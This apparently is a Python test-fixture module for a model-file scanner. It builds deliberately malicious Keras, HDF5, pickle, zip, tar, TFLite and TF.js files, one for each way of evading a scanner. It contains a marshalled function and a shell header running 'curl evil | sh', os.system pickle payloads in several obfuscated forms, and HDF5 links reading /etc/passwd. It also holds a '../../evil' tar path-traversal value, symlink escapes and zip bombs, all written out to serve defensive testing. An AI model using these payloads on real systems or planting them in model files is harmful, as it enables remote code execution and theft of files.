"""Files that would harm whoever loads or unpacks them, one for each way around scanners of models.

Each function writes one and returns its path. Nothing here is ever loaded by Keras, unpickled or run; the
payloads only name what they would call.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import stat
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np
from tests.check.lite.make_files import builtin, file, subgraph, tensor
from tests.formats.keras.samples import DENSE, MODEL, h5, keras, put_model, put_paths

from tfport.formats.lite.write import lite_bytes

Maker = Callable[[Path], Path]


def _evil(x):
    import os

    return os.system("curl evil | sh"), x


CODE = base64.b64encode(marshal.dumps(_evil.__code__)).decode()


class Payload:
    """Calls a function when it is unpickled."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.call = function, args

    def __reduce__(self) -> Any:
        return self.call


SYSTEM = pickle.dumps(Payload(os.system, "id"))
TEXT_PICKLE = b"cos\nsystem\n(S'id'\ntR."
INDIRECT = b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x93\x8c\x02id\x85R."  # names on the stack
CUT_OFF = SYSTEM[:-1] + b"\xff\xff\xff"  # damage after the call has happened
ELF = next(Path(__file__).parent.parent.glob("libraries/**/*.so"), None)


def layer(name: str, config: Any = None, **more: Any) -> dict[str, Any]:
    return {"class_name": name, "config": {"name": "bad", **(config or {})}, **more}


def model_of(*layers: Any) -> dict[str, Any]:
    return {"class_name": "Sequential", "config": {"name": "m", "layers": [DENSE, *layers]}}


def nested(inner: Any) -> dict[str, Any]:
    return {"class_name": "Functional", "config": {"name": "inner", "layers": [inner]}}


LAMBDA = layer("Lambda", {"function": [CODE, None, None], "function_type": "lambda"})
NEW_LAMBDA = layer(
    "Lambda", {"function": {"class_name": "__lambda__", "config": {"value": CODE}}}, module="keras.layers"
)


def written(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def in_h5(config: Any, training: Any = None) -> Maker:
    def write(hdf: h5py.File) -> None:
        put_model(hdf, config)
        if training is not None:
            hdf.attrs["training_config"] = json.dumps(training)

    return lambda folder: written(folder, "model.h5", h5(write))


def in_keras(config: Any = MODEL, name: str = "model.keras", **members: Any) -> Maker:
    return lambda folder: written(folder, name, keras(config, **members))


def as_file(name: str, data: bytes) -> Maker:
    return lambda folder: written(folder, name, data)


def in_zip(name: str, members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> Maker:
    return lambda folder: written(folder, name, zipped(members, method))


def zipped(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as out, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # names that occur twice are on purpose
        for name, data in members:
            info = zipfile.ZipInfo("x")
            info.filename, info.compress_type = name, method
            out.writestr(info, data)
    return buffer.getvalue()


def usual_members(config: Any = MODEL) -> list[tuple[str, bytes]]:
    members = {"metadata.json": {"keras_version": "3.8.0"}, "config.json": config}
    return [*((n, json.dumps(v).encode()) for n, v in members.items()), ("model.weights.h5", h5(put_paths))]


def linked_zip(target: str) -> Maker:
    def make(folder: Path) -> Path:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as out:
            for name, data in usual_members():
                out.writestr(name, data)
            info = zipfile.ZipInfo("assets/vocabulary.txt")
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            out.writestr(info, target)
        return written(folder, "model.keras", buffer.getvalue())

    return make


def in_tar(
    members: list[tuple[str, bytes]], links: tuple[tuple[str, bytes, str], ...] = (), mode: str = "w"
) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as out:  # type: ignore[call-overload]
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            out.addfile(info, io.BytesIO(data))
        for name, kind, target in links:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            out.addfile(info)
    return buffer.getvalue()


SAVED_MODEL = Path(__file__).parent.parent / "models" / "half_plus_two_tf2"


def saved_model_with(name: str, data: bytes) -> Maker:
    def make(folder: Path) -> Path:
        for source in SAVED_MODEL.rglob("*"):
            if source.is_file():
                written(folder, f"export/{source.relative_to(SAVED_MODEL)}", source.read_bytes())
        written(folder, f"export/{name}", data)
        return folder / "export"

    return make


def linked_folder(target: str) -> Maker:
    def make(folder: Path) -> Path:
        export = saved_model_with("assets/a.txt", b"a")(folder)
        (export / "assets" / "vocabulary.txt").symlink_to(target)
        return export

    return make


def keras_metadata(*configs: Any) -> bytes:
    """What Keras 2 writes beside a SavedModel: an object for each configuration."""
    out = b""
    for number, config in enumerate(configs):
        path = b"root" if number == 0 else b"root.layer"
        text = json.dumps(config).encode()
        node = b"".join(_field(n, v) for n, v in ((3, path), (4, b"_tf_keras_layer"), (5, text)))
        out += _field(1, node)
    return out


def _field(number: int, data: bytes) -> bytes:
    size, length = len(data), b""
    while size > 127:
        length, size = length + bytes([size & 127 | 128]), size >> 7
    return bytes([number << 3 | 2]) + length + bytes([size]) + data


def external_link(hdf: h5py.File) -> None:
    put_model(hdf)
    hdf["model_weights/outside"] = h5py.ExternalLink("/etc/secret.h5", "/w")


def linked_group(hdf: h5py.File) -> None:
    put_model(hdf)
    del hdf["model_weights"]
    hdf["model_weights"] = h5py.ExternalLink("/srv/other.h5", "/model_weights")


def external_storage(hdf: h5py.File) -> None:
    put_paths(hdf)
    hdf.create_dataset("layers/dense/vars/2", (8,), "u1", external=[("/etc/passwd", 0, 8)])


def virtual_dataset(hdf: h5py.File) -> None:
    put_model(hdf)
    layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
    layout[:] = h5py.VirtualSource("/srv/other.h5", "w", shape=(4,))
    hdf.create_virtual_dataset("model_weights/virtual", layout)


def virtual_in_weights(hdf: h5py.File) -> None:
    put_paths(hdf)
    layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
    layout[:] = h5py.VirtualSource("/srv/other.h5", "w", shape=(4,))
    hdf.create_virtual_dataset("layers/dense/vars/2", layout)


def shape_bomb(hdf: h5py.File) -> None:
    put_paths(hdf)
    hdf.create_dataset("layers/dense/vars/2", (1 << 40,), "f4", chunks=(1 << 10,))


def renamed_in_local_header() -> bytes:
    """The directory says `config.json`; the header before the data says `payload.pkl`."""
    data = bytearray(zipped(usual_members()))
    at = data.index(b"config.json")
    data[at : at + 11] = b"payload.pkl"
    return bytes(data)


def overlapping_members() -> bytes:
    """Members of the directory that share the bytes of one kernel, as zip bombs without recursion do."""
    one = zipped([("a", bytes(1 << 20))], zipfile.ZIP_DEFLATED)
    at = one.index(b"PK\x01\x02")
    entry = one[at : one.index(b"PK\x05\x06")]
    entries = b"".join(
        entry.replace(b"a", bytes([97 + i])) if entry[46:47] == b"a" else entry for i in range(20)
    )
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 20, 20, len(entries), at, 0)
    return one[:at] + entries + end


def big_member() -> bytes:
    return zipped([*usual_members(), ("assets/zeros", bytes(100 << 20))], zipfile.ZIP_DEFLATED)


def nested_zip(depth: int, data: bytes, name: str) -> bytes:
    for level in range(depth):
        data, name = zipped([(name, data)]), f"level{level}.zip"
    return data


def npz(**arrays: Any) -> bytes:
    buffer = io.BytesIO()
    np.savez(buffer, **arrays)
    return buffer.getvalue()


def lite(code: Any, *tensors: Any) -> bytes:
    return lite_bytes(file(subgraph(code, *(tensors or (tensor(), tensor())))))


def overlapping_buffers(folder: Path) -> Path:
    """Two buffers behind the flatbuffer, the second moved into the first."""
    from tfport.formats.lite.write import LARGE

    first, second = b"\2" * LARGE, b"\3" * LARGE
    added = subgraph(
        builtin("ADD"), tensor((1, 256)), tensor((1, 256), buffer=1), tensor((1, 256), buffer=2),
        tensor((1, 256)),
        inputs=3, options_type="AddOptions",
    )  # fmt: skip
    content = lite_bytes(file(added, buffers=(first, second)), largest=0)
    offset = struct.pack("<Q", content.index(second))
    return written(folder, "m.tflite", content.replace(offset, struct.pack("<Q", content.index(second) - 64)))


def tfjs(paths: list[str], *added: Any, is_layers: bool = False) -> bytes:
    topology = {"class_name": "Sequential", "config": {"name": "m", "layers": [DENSE, *added]}}
    graph: dict[str, Any] = {"node": [], "versions": {}}
    manifest = [{"paths": paths, "weights": [{"name": "w", "shape": [1], "dtype": "float32"}]}]
    kind = "layers-model" if is_layers else "graph-model"
    whole = {"format": kind, "modelTopology": topology if is_layers else graph, "weightsManifest": manifest}
    return json.dumps(whole).encode()


def encrypted() -> bytes:
    data = bytearray(zipped([*usual_members(), ("assets/hidden", b"x" * 20)]))
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.rindex(sign)
        data[start + at] |= 1
    return bytes(data)


CONCATENATED = zipped([("harmless.txt", b"x")]) + zipped(usual_members(model_of(LAMBDA)))
JOBLIB = zlib.compress(SYSTEM)
GZIPPED, XZ = gzip.compress(SYSTEM), lzma.compress(TEXT_PICKLE)
WINDOWS = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200)
MACOS = b"\xcf\xfa\xed\xfe" + bytes(200)
PYC = b"\xa7\r\r\n" + bytes(12) + marshal.dumps(_evil.__code__)
HDF5_BEHIND = b"#!/bin/sh\ncurl evil | sh\nexit\n".ljust(512, b"\0")


def user_block(start: bytes, config: Any) -> bytes:
    """An HDF5 file behind a first part that is something else."""
    data = bytearray(h5(lambda hdf: put_model(hdf, config), userblock_size=512))
    data[: len(start)] = start
    return bytes(data)


DECOY = b"\x80\x04\x8c\x02os\x8c\x06system\x8c\x04math\x8c\x04sqrt00\x93\x8c\x02id\x85R."
MEMOIZED = b"\x80\x02cos\nsystem\nq\x000h\x00X\x02\x00\x00\x00idq\x01\x85R."
EMPTY_END = zipped(usual_members(model_of(LAMBDA))) + b"PK\x05\x06" + bytes(18)
_HEADER = b"{'descr': '<f4', 'fortran_order': False, 'shape': (1099511627776,), }".ljust(117) + b"\n"
LARGE_ARRAY = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(_HEADER)) + _HEADER + bytes(16)


def text_pickle(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n(S'id'\ntR.".encode()


def pax_path() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as out:
        info = tarfile.TarInfo("safe.txt")
        info.pax_headers, info.size = {"path": "../../evil"}, 1
        out.addfile(info, io.BytesIO(b"x"))
    return buffer.getvalue()
